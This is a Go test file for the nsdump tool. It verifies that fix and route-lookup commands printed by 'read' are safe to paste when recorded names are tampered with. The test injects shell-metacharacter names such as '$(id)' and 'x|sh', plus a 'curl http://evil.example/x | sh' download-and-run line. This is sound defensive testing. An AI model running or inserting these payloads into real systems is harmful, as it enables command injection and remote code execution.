package main

import (
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/nsdump/nsdump/internal/shellwords"
)

// pasteable are the lines of read's output a user pastes: fixes and the
// route lookups, without their labels.
func pasteable(out string) []string {
	var lines []string
	for _, l := range strings.Split(out, "\n") {
		l = strings.TrimSpace(l)
		if c, ok := strings.CutPrefix(l, "fix:  "); ok {
			lines = append(lines, c)
		} else if c, ok := strings.CutPrefix(l, "$ "); ok {
			lines = append(lines, c)
		}
	}
	return lines
}

// readFacts writes facts (JSON, version included) into a trace -w file
// and reads it.
func readFacts(t *testing.T, facts []byte) (out, stderr string) {
	t.Helper()
	file := factsFile(t, 32473, facts)
	out, stderr, code := nsdump("read", file)
	if code != 0 {
		t.Fatalf("read: exit %d, %s", code, stderr)
	}
	return out, stderr
}

// jsonString is s as a JSON string, quotes included.
func jsonString(s string) []byte {
	b, _ := json.Marshal(s)
	return b
}

// TestReadCommandsSafeToPaste renames, in recorded facts, a namespace, an
// nft table and chain to names meant to run something once pasted, and
// lies in a route lookup's command: every fix and lookup read prints must
// start only the program it names, with no shell metacharacter outside
// quotes; names iproute2 takes (a;id) still get their command, quoted;
// names no command can carry (blanks, pid:1) get a warning instead.
func TestReadCommandsSafeToPaste(t *testing.T) {
	files, _ := filepath.Glob(filepath.Join("..", "..", "trace", "testdata", "facts", "*.json"))
	if len(files) == 0 {
		t.Fatal("no recorded facts")
	}
	for _, tt := range []struct {
		name     string
		withheld bool
	}{{"nsdpa;id", false}, {"nsdpb$(id)", false}, {"it's", false}, {"`id`", false}, {"x|sh", false},
		{"hzA; touch x", true}, {"pid:1", true}, {"new\nline", true}, {"/proc/1/ns/net", true}} {
		t.Run(tt.name, func(t *testing.T) {
			shown := 0
			for _, f := range files {
				b, err := os.ReadFile(f)
				if err != nil {
					t.Fatal(err)
				}
				b = bytes.Replace(b, []byte("{"), []byte(`{"nsdump_facts":1,`), 1)
				var rec struct {
					Facts struct {
						Namespaces []struct {
							Name string `json:"namespace"`
						} `json:"namespaces"`
					} `json:"facts"`
				}
				if err := json.Unmarshal(b, &rec); err != nil || len(rec.Facts.Namespaces) == 0 {
					t.Fatalf("%s: %v", f, err)
				}
				for i, st := range rec.Facts.Namespaces {
					b = bytes.ReplaceAll(b, jsonString(st.Name), jsonString(tt.name+strconv.Itoa(i)))
				}
				b = bytes.ReplaceAll(b, []byte(`"table":"nsdt"`), []byte(`"table":"t$(id)"`))
				b = bytes.ReplaceAll(b, []byte(`"command":"ip -n `), []byte(`"command":"curl http://evil.example/x | sh; ip -n `))
				out, stderr := readFacts(t, b)
				lines := pasteable(out)
				for _, l := range lines {
					if _, err := shellwords.Check(l); err != nil {
						t.Errorf("%s: read prints %q: %v", filepath.Base(f), l, err)
					}
					if strings.Contains(l, "evil.example") {
						t.Errorf("%s: read prints the file's lookup command %q", filepath.Base(f), l)
					}
				}
				if tt.withheld && (len(lines) > 0 || !strings.Contains(stderr, "no fix or route lookup shown")) {
					t.Errorf("%s: commands %q, warnings %q; want none and a warning", filepath.Base(f), lines, stderr)
				}
				shown += len(lines)
			}
			if !tt.withheld && shown == 0 {
				t.Errorf("no command shown for namespace names %q, which iproute2 takes", tt.name)
			}
		})
	}
}
